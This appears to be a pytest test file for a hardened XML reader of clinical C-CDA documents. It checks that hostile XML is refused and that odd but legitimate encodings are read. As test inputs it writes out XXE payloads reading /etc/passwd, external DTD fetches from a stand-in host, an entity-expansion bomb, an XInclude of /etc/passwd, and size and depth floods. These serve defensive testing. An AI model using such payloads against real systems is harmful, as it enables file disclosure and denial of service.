"""Hostile XML is refused before it costs anything, and odd but honest XML is read."""

import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from unittest import mock

import pytest
from hypothesis import given
from hypothesis import strategies as st

from baton_formats.ccda import read, safe_xml
from baton_formats.ccda.safe_xml import Room, XmlLimits, XmlRefused, stream
from baton_formats.findings import Outcome

Make = Callable[..., bytes]


class Heard:
    """A room that writes down what it hears."""

    def __init__(self) -> None:
        self.names: list[str] = []
        self._text: list[str] = []

    @property
    def text(self) -> str:
        return "".join(self._text)

    def open(self, name: str, attributes: dict[str, str]) -> Room:
        self.names.append(name)
        return self

    def close(self, name: str) -> None:
        return None

    def data(self, text: str) -> None:
        self._text.append(text)


def heard(body: bytes, limits: XmlLimits | None = None) -> Heard:
    room = Heard()
    stream(body, room, limits=limits or XmlLimits())
    return room


_BOMB = (
    '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    "<d>&c;</d>"
)


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE d SYSTEM "http://evil.invalid/d.dtd"><d/>',
        '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
        '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.invalid/p"> %p;]><d/>',
        '<?xml version="1.0"?>\n<!-- a comment --><?pi x?>\n<!DOCTYPE d><d/>',
        "<!doctype html><html/>",
        "\n \t<!DOCTYPE d><d/>",
        _BOMB,
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_document_type_is_refused_in_every_encoding(text: str, encoding: str) -> None:
    with pytest.raises(XmlRefused) as caught:
        heard(text.encode(encoding))
    assert caught.value.code == "document-type"


def test_a_document_type_behind_a_long_comment_is_refused() -> None:
    with pytest.raises(XmlRefused):
        heard(b"<!--" + b"x" * 300_000 + b"--><!DOCTYPE d [<!ENTITY e 'x'>]><d>&e;</d>")


def test_a_document_type_after_the_root_has_begun_ends_the_reading() -> None:
    room = Heard()
    report = stream(b"<d><!DOCTYPE d [<!ENTITY e 'boom'>]>&e;</d>", room)
    assert report.broken is not None
    assert "boom" not in room.text


def test_nothing_outside_is_ever_fetched(clinical_document: Make) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        url = f"http://127.0.0.1:{server.getsockname()[1]}/x"
        text = clinical_document(
            more=f'<include xmlns="http://www.w3.org/2001/XInclude" href="{url}"/>'
        ).decode()
        head = f'<?xml-stylesheet type="text/xsl" href="{url}"?><?xml-model href="{url}"?>'
        where = (
            f'xsi:schemaLocation="urn:hl7-org:v3 {url}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        )
        text = text.replace("<ClinicalDocument", f"{head}<ClinicalDocument {where}", 1)
        assert read(text.encode()).outcome is Outcome.ACCEPTED
        assert read(f'<!DOCTYPE d SYSTEM "{url}"><d/>'.encode()).outcome is Outcome.REFUSED
        with pytest.raises(TimeoutError):
            server.accept()


def test_html_inside_of_cdata_is_only_text() -> None:
    assert heard(b"<d><![CDATA[<!DOCTYPE html><p>]]></d>").text == "<!DOCTYPE html><p>"


def test_an_include_is_an_element_like_any_other() -> None:
    room = heard(
        b'<d xmlns:i="http://www.w3.org/2001/XInclude">'
        b'<i:include href="file:///etc/passwd" parse="text"/></d>'
    )
    assert room.text == ""


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"<d>" * 100_000 + b"</d>" * 100_000, "too-deep"),
        (b"<d " + b" ".join(b'a%d="1"' % number for number in range(50_000)) + b"/>", "too-many-attributes"),
        (b"<d>" + b"<e/>" * 1_200_000 + b"</d>", "too-many-elements"),
        (b"<d>" + b"".join(b"<n%d/>" % n for n in range(200_000)) + b"</d>", "too-many-names"),
        (b"<d>" + b"".join(b'<e n%d="1"/>' % n for n in range(100_000)) + b"</d>", "too-many-names"),
        (b'<d a="' + b"x" * 4_000_000 + b'"/>', "too-long-tag"),
        (
            b"<d>x<e " + b" ".join(b'xmlns:p%d="u%d"' % (n, n) for n in range(100_000)) + b"/></d>",
            "too-long-tag",
        ),
        (b"<d>" + b"x" * 17_000_000 + b"</d>", "too-large"),
    ],
    ids=[
        "depth",
        "attributes",
        "elements",
        "names",
        "names of attributes",
        "attribute",
        "namespaces",
        "size",
    ],
)
def test_what_costs_too_much_is_refused_in_bounded_time(body: bytes, code: str) -> None:
    started = time.process_time()
    with pytest.raises(XmlRefused) as caught:
        heard(body)
    assert caught.value.code == code
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    "body",
    [
        b"<d " + b" ".join(b'xmlns:p%d="u%d"' % (n, n) for n in range(40_000)) + b"/>",
        b"<d>" + b"".join(b"<n%d/>" % n for n in range(9_000)) + b"</d>",
        b"<d>" + b"&#120;" * 500_000 + b"</d>",
        b'<d a="' + b"x" * 900_000 + b'"/>',
        b"<d>" + b"<!---->" * 500_000 + b"</d>",
        b"<d><!--" + b"x" * 4_000_000 + b"--></d>",
        b"<d><?p " + b"x" * 4_000_000 + b"?></d>",
        b"<d>x</d>" + b" " * 4_000_000,
        b"<d>" + b"<?p?>" * 500_000 + b"</d>",
    ],
    ids=[
        "namespaces",
        "names",
        "references",
        "attribute",
        "comments",
        "a comment",
        "an instruction",
        "blanks",
        "instructions",
    ],
)
def test_floods_within_the_limits_end_in_seconds(body: bytes) -> None:
    started = time.process_time()
    stream(body, Heard())
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (b"\xef\xbb\xbf<d>x</d>", "x"),
        (b"\n\n <?xml version='1.0'?><d>x</d>", "x"),
        (b"<d>x</d> trailing text & more", "x"),
        ("<?xml version='1.0' encoding='UTF-16'?><d>\u00e9</d>".encode("utf-16"), "\u00e9"),
        ("<d>\u00e9</d>".encode("utf-32-be"), "\u00e9"),
        ("<?xml version='1.0' encoding='ISO-8859-1'?><d>\u00e9</d>".encode("latin-1"), "\u00e9"),
        ("<?xml version='1.0' encoding='ISO-8859-7'?><d>\u03b1</d>".encode("iso8859-7"), "\u03b1"),
        ("<?xml version='1.0' encoding='ISO-8859-1'?><d>\u03b1</d>".encode(), "\u03b1"),
        ("<?xml version='1.0' encoding='UTF-8'?><d>\u201c</d>".encode("cp1252"), "\u201c"),
        ("<?xml version='1.0' encoding='no-such-thing'?><d>\u00e9</d>".encode(), "\u00e9"),
        (b"<?xml version='1.0' encoding='UTF-7'?><d>+ADw-b+AD4-</d>", "+ADw-b+AD4-"),
        (b"<?xml version='1.0' encoding='idna'?><d>x</d>", "x"),
        (b"<?xml version='1.0' encoding='zlib'?><d>x</d>", "x"),
    ],
)
def test_odd_beginnings_ends_and_encodings_are_read(body: bytes, text: str) -> None:
    assert heard(body).text == text


@pytest.mark.parametrize(
    "body", [b"", b" ", b"\0", b"{}", b"hello", b"MSH|^~\\&|", b"PK\x03\x04", b"<", b"<>", b"< d/>", b"<?xml"]
)
def test_what_is_no_xml_is_refused(body: bytes) -> None:
    result = read(body)
    assert result.outcome is Outcome.REFUSED
    assert (result.reason or "").startswith("This is not readable as a C-CDA document")


def test_the_line_of_an_error_is_that_of_the_file() -> None:
    report = stream(b"<?xml version='1.0'\n?>\n<d>\n<e></f></d>", Heard())
    assert report.broken is not None
    assert report.broken.place.startswith("line 4,")


def test_an_error_never_quotes_the_document() -> None:
    report = stream(b"<d><Secretname></Othername></d>", Heard())
    assert report.broken is not None
    assert "name" not in str(report.broken).replace("another name", "")


def test_what_was_odd_becomes_findings(clinical_document: Make) -> None:
    body = b"\n" + clinical_document().replace(b"Ada", "Ad\u00e9".encode("cp1252")) + b"trailing"
    codes = {finding.code for finding in read(body).all_findings}
    assert {"leading-content", "trailing-content", "charset-differs"} <= codes


def test_a_declared_charset_that_holds_is_no_finding(clinical_document: Make) -> None:
    text = clinical_document().decode().replace("Ada", "Ad\u00e9")
    assert read(text.replace(' encoding="UTF-8"', "").encode("utf-16")).outcome is Outcome.ACCEPTED
    assert read(text.replace("UTF-8", "ISO-8859-1").encode("latin-1")).findings == ()
    for declared, codec in (
        ("ISO-8859-1", "latin-1"),
        ("windows-1252", "cp1252"),
        ("UTF-16", "utf-16"),
        ("utf8", "utf-8"),
    ):
        result = read(text.replace("UTF-8", declared).encode(codec))
        assert result.outcome is Outcome.ACCEPTED, declared
        envelope = result.messages[0].envelope
        assert envelope is not None
        assert envelope.declared_charset == declared.lower()


_CONTENT = st.lists(
    st.one_of(
        st.sampled_from(
            ["<!--<![CDATA[-->", "<![CDATA[<!--]]>", "<?p <![CDATA[?>", "<!--]]>-->", "<![CDATA[]]>"]
        ),
        st.sampled_from(
            ["&amp;", "<e/>", "<e>", "</e>", "]", "]]", "x>", "\u00e9", "\U0001f600", " ", "-", "!"]
        ),
        st.text("<>]![CDAT-? &", max_size=12).map(lambda inner: f"<![CDATA[{inner.replace(']]>', '')}]]>"),
        st.text("<>]![CDAT x", max_size=12).map(lambda inner: f"<!--{inner}-->"),
        st.text("<>]![CDAT-x", max_size=12).map(lambda inner: f"<?p {inner}?>"),
    ),
    max_size=12,
)


@given(content=_CONTENT, chunk=st.integers(1, 40))
def test_where_a_document_is_cut_into_pieces_changes_nothing(content: list[str], chunk: int) -> None:
    body = f"<d>{''.join(content)}</d>".encode()
    whole = Heard()
    expected = stream(body, whole)
    with mock.patch.object(safe_xml, "CHUNK", chunk):
        parted = Heard()
        found = stream(body, parted)
    assert (parted.names, parted.text) == (whole.names, whole.text)
    assert (found.broken is None, found.trailing) == (expected.broken is None, expected.trailing)


@pytest.mark.parametrize(
    ("charset", "words"),
    [
        ("iso-8859-8", "שלום"),
        ("windows-1255", "שלום"),
        ("windows-1256", "سلام"),
        ("iso-8859-6", "سلام"),
        ("iso-8859-4", "ķēniņš"),
        ("iso-8859-15", "cœur €"),
        ("koi8-r", "слово"),
        ("macintosh", "œuvre"),
        ("ibm850", "señor"),
        ("shift_jis", "山田"),
        ("iso-2022-jp", "山田"),
        ("euc-jp", "山田"),
        ("euc-kr", "김철수"),
        ("gb18030", "谢叶"),
        ("big5", "陳大文"),
    ],
)
def test_a_charset_that_is_declared_and_fits_is_used(charset: str, words: str) -> None:
    room = Heard()
    report = stream(f'<?xml version="1.0" encoding="{charset}"?><d>{words}</d>'.encode(charset), room)
    assert room.text == words
    assert not report.replaced


def test_a_second_byte_order_mark_is_passed_over() -> None:
    assert heard(b"\xef\xbb\xbf\xef\xbb\xbf<d>x</d>").text == "x"
    assert heard("\ufeff<d>x</d>".encode("utf-16")).text == "x"


_FLOOD = """
import ctypes, gc
from baton_formats.ccda.safe_xml import stream
from baton_formats.ccda.document import Outside

def resident():
    gc.collect()
    ctypes.CDLL(None).malloc_trim(0)
    return next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmRSS"))

for k in range(12):
    stream(("<d>" + "".join(f"<n{k}_{i}{'x' * 480}/>" for i in range(9000)) + "</d>").encode(), Outside())
    if k == 3:
        early = resident()
print(resident() - early)
"""


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="the resident size is read from /proc")
def test_names_that_were_read_once_are_forgotten() -> None:
    """What libxml2 keeps for the life of a thread would be 35 MB here."""
    done = subprocess.run([sys.executable, "-c", _FLOOD], capture_output=True, text=True, check=True)
    assert int(done.stdout) < 12_000
